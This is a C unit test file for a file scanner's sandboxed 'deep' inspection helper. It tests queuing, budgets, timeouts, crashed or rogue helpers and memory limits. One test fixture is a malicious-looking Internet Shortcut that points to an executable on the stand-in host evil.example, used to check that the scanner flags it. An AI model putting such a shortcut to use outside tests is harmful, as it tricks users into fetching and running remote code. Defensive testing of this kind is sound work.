/* deep_test.c - attachments to a helper and back, on a clock that the test moves: the helper is the
 * other end of a socket pair, and in one test the real program */

#include "check.h"
#include "deep.h"
#include "deep/client.h"

#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static uint64_t now_us;

static uint64_t
test_now(void *ctx)
{
	return now_us;
}

static int64_t
test_wall(void *ctx)
{
	return (int64_t)now_us;
}

static const struct sl_clock test_clock = { test_now, test_wall, NULL };

struct rig {
	struct sl_loop	*loop;
	struct deep	*deep;
	struct sl_ipc	*helper;	/* our end */
	unsigned	 failed;	/* how often another helper was asked for */
	struct sl_slice	 seen;		/* of the job the helper got last, mapped */
	struct sl_deep_job job;
	unsigned	 jobs;
};

struct owner {
	struct deep_job	*job;
	struct sl_buf	 said;
	bool		 frees;		/* in on_done */
};

static void
on_item(void *ctx, const struct sl_deep_item *item)
{
	struct owner *owner = ctx;

	if (item->kind == SL_DEEP_FINDING)
		sl_buf_addf(&owner->said, "%s;", sl_deep_finding_name(item->finding.id));
	else
		sl_buf_addf(&owner->said, SL_SLICE_FMT ";", SL_SLICE_ARG(item->path));
}

static void
on_done(void *ctx, int result)
{
	struct owner *owner = ctx;

	sl_buf_addf(&owner->said, "%d", result);
	if (owner->frees)
		deep_job_free(&owner->job);
}

static const struct deep_events events = { on_item, on_done };

static void
on_failed(void *ctx)
{
	((struct rig *)ctx)->failed++;
}

static void
new_helper(struct rig *rig)
{
	int fds[2];

	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds), 0);
	sl_ipc_free(&rig->helper);
	rig->helper = sl_ipc_new(fds[0], SL_IPC_BIT(INSPECT));
	deep_use_helper(rig->deep, fds[1]);
}

static void
rig_open(struct rig *rig)
{
	*rig = (struct rig){ .loop = sl_loop_new(&test_clock) };
	rig->deep = deep_new(rig->loop, on_failed, rig);
	rig->seen = sl_slice("", 0);
}

static void
rig_close(struct rig *rig)
{
	sl_deep_unmap(&rig->seen);
	deep_free(&rig->deep);
	sl_ipc_free(&rig->helper);
	sl_loop_free(&rig->loop);
}

static void
pass(struct rig *rig, uint64_t ms)
{
	now_us += ms * 1000;
	sl_loop_turn(rig->loop);
}

static void
on_inspect(void *ctx, struct sl_ipc_message *message)
{
	struct rig *rig = ctx;

	rig->jobs++;
	assert_int_equal(sl_deep_unpack_job(message->payload, &rig->job), 0);
	sl_deep_unmap(&rig->seen);
	assert_int_equal(sl_deep_map(message->fds[0], &rig->seen), 0);
}

/* The helper reads what it was asked. Returns the count of jobs. */
static unsigned
helper_reads(struct rig *rig)
{
	rig->jobs = 0;
	assert_int_equal(sl_ipc_read(rig->helper, on_inspect, rig), SL_MORE);
	return rig->jobs;
}

static void
helper_finds(struct rig *rig, enum sl_deep_finding id)
{
	struct sl_deep_item item = { .kind = SL_DEEP_FINDING };
	struct sl_buf out;

	item.finding.id = id;
	sl_buf_init(&out, SL_DEEP_RESULT_MAX);
	sl_deep_pack_item(&item, &out);
	assert_int_equal(sl_ipc_send(rig->helper, SL_IPC_INSPECT_RESULT, sl_buf_slice(&out), NULL, 0), 0);
	sl_buf_fini(&out);
}

static void
helper_is_done(struct rig *rig, uint64_t bytes_out, bool complete)
{
	struct sl_deep_done done = { { bytes_out, 1, 1, 1 }, complete };
	struct sl_buf out;

	sl_buf_init(&out, SL_DEEP_DONE_MAX);
	sl_deep_pack_done(&done, &out);
	assert_int_equal(sl_ipc_send(rig->helper, SL_IPC_INSPECT_DONE, sl_buf_slice(&out), NULL, 0), 0);
	sl_buf_fini(&out);
	sl_loop_turn(rig->loop);
}

static void
submit(struct rig *rig, struct owner *owner, const char *bytes, struct sl_deep_budget *left)
{
	const struct sl_deep_job about = { .name = SL_SLICE_LIT("a.zip") };

	*owner = (struct owner){ .frees = true };
	sl_buf_init(&owner->said, 10000);
	owner->job = deep_job_new(rig->deep);
	assert_non_null(owner->job);
	assert_int_equal(deep_job_add(owner->job, bytes, strlen(bytes)), 0);
	deep_job_submit(owner->job, &about, left, 1000, &events, owner);
}

static void
expect_said(struct owner *owner, const char *said)
{
	assert_string_equal(sl_buf_cstr(&owner->said), said);
	sl_buf_fini(&owner->said);
}

static void
a_job_is_answered_and_paid_for(void **state)
{
	struct sl_deep_budget left = { 100, 10, 6, 1000 };
	struct owner owner;
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	submit(&rig, &owner, "bytes", &left);
	assert_int_equal(deep_memory(rig.deep), 5);
	assert_int_equal(helper_reads(&rig), 1);
	assert_true(sl_slice_eq(rig.seen, SL_SLICE_LIT("bytes")));
	assert_int_equal(rig.job.budget.bytes_out, 100);
	helper_finds(&rig, SL_DEEP_MACRO);
	helper_is_done(&rig, 30, true);
	expect_said(&owner, "macro;1");
	assert_int_equal(left.bytes_out, 70);
	assert_int_equal(left.items, 9);
	assert_int_equal(deep_memory(rig.deep), 0);
	assert_int_equal(rig.failed, 0);
	rig_close(&rig);
}

static void
jobs_wait_their_turn_and_share_a_budget(void **state)
{
	struct sl_deep_budget left = { 100, 10, 6, 1000 };
	struct owner owners[3];
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	for (size_t i = 0; i < 3; i++)
		submit(&rig, &owners[i], "x", &left);
	assert_int_equal(helper_reads(&rig), 1);
	helper_is_done(&rig, 60, true);
	assert_int_equal(helper_reads(&rig), 1);
	assert_int_equal(rig.job.budget.bytes_out, 40);
	helper_is_done(&rig, 60, false);	/* used up: the third is not even asked for */
	assert_int_equal(helper_reads(&rig), 0);
	expect_said(&owners[0], "1");
	expect_said(&owners[1], "-8");
	expect_said(&owners[2], "deep-budget;-8");
	rig_close(&rig);
}

static void
a_helper_that_dies_is_a_finding_and_another_takes_the_rest(void **state)
{
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner one, two;
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	submit(&rig, &one, "kills", &left);
	submit(&rig, &two, "harmless", &left);
	assert_int_equal(helper_reads(&rig), 1);
	helper_finds(&rig, SL_DEEP_MACRO);
	sl_ipc_free(&rig.helper);
	pass(&rig, 0);
	pass(&rig, 0);
	expect_said(&one, "macro;helper-died;-11");
	assert_int_equal(rig.failed, 1);
	assert_non_null(two.job);
	new_helper(&rig);
	assert_int_equal(helper_reads(&rig), 1);
	assert_true(sl_slice_eq(rig.seen, SL_SLICE_LIT("harmless")));
	helper_is_done(&rig, 0, true);
	expect_said(&two, "1");
	rig_close(&rig);
}

static void
a_silent_helper_is_let_go_at_the_deadline(void **state)
{
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner one, two;
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	submit(&rig, &one, "hangs", &left);
	pass(&rig, 500);
	submit(&rig, &two, "waits", &left);
	pass(&rig, 520);
	expect_said(&one, "helper-timeout;-10");
	assert_int_equal(rig.failed, 1);
	pass(&rig, 600);	/* no other came */
	expect_said(&two, "helper-unavailable;-9");
	assert_int_equal(deep_memory(rig.deep), 0);
	rig_close(&rig);
}

static void
without_a_helper_a_job_ends_at_its_deadline(void **state)
{
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner owner;
	struct rig rig;

	rig_open(&rig);
	submit(&rig, &owner, "x", &left);
	pass(&rig, 900);
	assert_int_equal(owner.said.len, 0);
	pass(&rig, 120);
	expect_said(&owner, "helper-unavailable;-9");
	rig_close(&rig);
}

/* What a helper that was taken over could say. */
static void
a_helper_that_breaks_a_rule_is_let_go(void **state)
{
	for (int row = 0; row < 4; row++) {
		struct sl_deep_budget left = { 100, 2, 6, 1000 };
		struct owner owner;
		struct rig rig;

		rig_open(&rig);
		new_helper(&rig);
		submit(&rig, &owner, "x", &left);
		assert_int_equal(helper_reads(&rig), 1);
		if (row == 0)		/* nonsense in a message */
			assert_int_equal(sl_ipc_send(rig.helper, SL_IPC_INSPECT_RESULT, SL_SLICE_LIT("xyz"),
			    NULL, 0), 0);
		else if (row == 1)	/* a message that is not its own */
			assert_int_equal(sl_ipc_send(rig.helper, SL_IPC_READY, sl_slice(NULL, 0), NULL, 0), 0);
		else if (row == 2)	/* more than it was given leave for */
			for (int i = 0; i < 5; i++)
				helper_finds(&rig, SL_DEEP_MACRO);
		else {			/* an end, and more behind it */
			helper_is_done(&rig, 0, true);
			helper_finds(&rig, SL_DEEP_MACRO);
		}
		pass(&rig, 0);
		expect_said(&owner, row == 2 ? "macro;macro;macro;helper-died;-11" : row == 3 ? "1"
		    : "helper-died;-11");
		assert_int_equal(rig.failed, 1);
		assert_int_equal(deep_memory(rig.deep), 0);
		rig_close(&rig);
	}
}

static void
a_job_can_be_given_up_at_any_time(void **state)
{
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner filling = { 0 }, waiting, running, last;
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	filling.job = deep_job_new(rig.deep);
	assert_int_equal(deep_job_add(filling.job, "123", 3), 0);
	deep_job_free(&filling.job);
	submit(&rig, &running, "four", &left);
	submit(&rig, &waiting, "waits", &left);
	submit(&rig, &last, "l", &left);
	assert_int_equal(helper_reads(&rig), 1);
	deep_job_free(&running.job);
	deep_job_free(&waiting.job);
	assert_int_equal(deep_memory(rig.deep), 4 + 1);	/* the helper has it yet */
	helper_finds(&rig, SL_DEEP_MACRO);
	helper_is_done(&rig, 0, true);
	assert_int_equal(deep_memory(rig.deep), 1);
	assert_int_equal(helper_reads(&rig), 1);
	assert_true(sl_slice_eq(rig.seen, SL_SLICE_LIT("l")));
	helper_is_done(&rig, 0, true);
	expect_said(&running, "");
	expect_said(&waiting, "");
	expect_said(&last, "1");
	rig_close(&rig);
}

/* Nobody waits, but a helper that never comes back must not block the others for ever. */
static void
a_job_that_was_given_up_has_an_end_too(void **state)
{
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner owner;
	struct rig rig;

	rig_open(&rig);
	new_helper(&rig);
	submit(&rig, &owner, "hangs", &left);
	deep_job_free(&owner.job);
	pass(&rig, 29000);
	assert_int_equal(rig.failed, 0);
	pass(&rig, 1100);
	assert_int_equal(rig.failed, 1);
	assert_int_equal(deep_memory(rig.deep), 0);
	expect_said(&owner, "");
	rig_close(&rig);
}

static void
memory_and_jobs_have_limits(void **state)
{
	static unsigned char block[1 << 20];
	struct deep_job *jobs[DEEP_JOBS_MAX];
	struct rig rig;
	size_t n = 0;

	rig_open(&rig);
	jobs[0] = deep_job_new(rig.deep);
	for (n = 0; n < DEEP_JOB_MAX; n += sizeof(block))
		assert_int_equal(deep_job_add(jobs[0], block, sizeof(block)), 0);
	assert_int_equal(deep_job_add(jobs[0], block, 1), SL_ERR_FULL);
	deep_job_free(&jobs[0]);
	assert_int_equal(deep_memory(rig.deep), 0);
	for (n = 0; n < DEEP_JOBS_MAX; n++) {
		jobs[n] = deep_job_new(rig.deep);
		assert_non_null(jobs[n]);
	}
	assert_null(deep_job_new(rig.deep));
	for (n = 0; n < DEEP_JOBS_MAX; n++)
		deep_job_free(&jobs[n]);
	for (n = 0; n < DEEP_MEMORY_MAX / DEEP_JOB_MAX; n++) {
		jobs[n] = deep_job_new(rig.deep);
		for (size_t k = 0; k < DEEP_JOB_MAX; k += sizeof(block))
			assert_int_equal(deep_job_add(jobs[n], block, sizeof(block)), 0);
	}
	assert_null(deep_job_new(rig.deep));
	while (n > 0)
		deep_job_free(&jobs[--n]);
	rig_close(&rig);
}

/* The program itself: the words of both sides are the same. */
static void
the_real_helper_answers(void **state)
{
	static const char shortcut[] = "[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n";
	struct sl_deep_budget left = sl_deep_budget_default;
	struct owner owner;
	struct rig rig;
	char path[4096];
	pid_t pid;
	int fd, status;

	assert_true(sl_helper_find(path, sizeof(path)));
	rig_open(&rig);
	fd = sl_helper_spawn(path, "", &pid);
	assert_true(fd >= 0);
	deep_use_helper(rig.deep, fd);
	submit(&rig, &owner, shortcut, &left);
	for (int i = 0; owner.job != NULL && i < 600; i++) {	/* its answer wakes us */
		struct pollfd p = { .fd = fd, .events = POLLIN };

		assert_true(poll(&p, 1, 100) >= 0);
		sl_loop_turn(rig.loop);
	}
	expect_said(&owner, ";lnk-command;1");
	assert_true(left.items < SL_DEEP_ITEMS);
	rig_close(&rig);			/* it ends with its channel */
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

static void
nothing(void *ctx, struct sl_ipc_message *message)
{
	fail_msg("an answer: %s", sl_ipc_type_name(message->type));
}

/* A job that is none of ours ends the helper: it could be made to read what changes under it. */
static void
the_real_helper_refuses_what_is_not_sealed_or_no_job(void **state)
{
	for (int row = 0; row < 3; row++) {
		struct sl_deep_job job = { .budget = sl_deep_budget_default };
		struct sl_buf payload;
		struct sl_ipc *ipc;
		char path[4096];
		pid_t pid;
		int fd, memory = row == 0 ? sl_deep_memory() : sl_deep_seal(SL_SLICE_LIT("x")), status;

		assert_true(sl_helper_find(path, sizeof(path)));
		fd = sl_helper_spawn(path, "", &pid);
		assert_true(fd >= 0 && memory >= 0);
		ipc = sl_ipc_new(fd, UINT32_MAX);
		sl_buf_init(&payload, SL_DEEP_JOB_MAX);
		sl_deep_pack_job(&job, &payload);
		if (row == 1)
			payload.len--;
		assert_int_equal(sl_ipc_send(ipc, SL_IPC_INSPECT, sl_buf_slice(&payload), &memory, row == 2 ? 0 : 1), 0);
		assert_int_equal(sl_ipc_wait(ipc, 30000, nothing, NULL), SL_ERR_CLOSED);
		assert_int_equal(waitpid(pid, &status, 0), pid);
		assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 1);
		close(memory);
		sl_buf_fini(&payload);
		sl_ipc_free(&ipc);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_job_is_answered_and_paid_for),
		cmocka_unit_test(jobs_wait_their_turn_and_share_a_budget),
		cmocka_unit_test(a_helper_that_dies_is_a_finding_and_another_takes_the_rest),
		cmocka_unit_test(a_silent_helper_is_let_go_at_the_deadline),
		cmocka_unit_test(without_a_helper_a_job_ends_at_its_deadline),
		cmocka_unit_test(a_helper_that_breaks_a_rule_is_let_go),
		cmocka_unit_test(a_job_can_be_given_up_at_any_time),
		cmocka_unit_test(a_job_that_was_given_up_has_an_end_too),
		cmocka_unit_test(memory_and_jobs_have_limits),
		cmocka_unit_test(the_real_helper_answers),
		cmocka_unit_test(the_real_helper_refuses_what_is_not_sealed_or_no_job),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
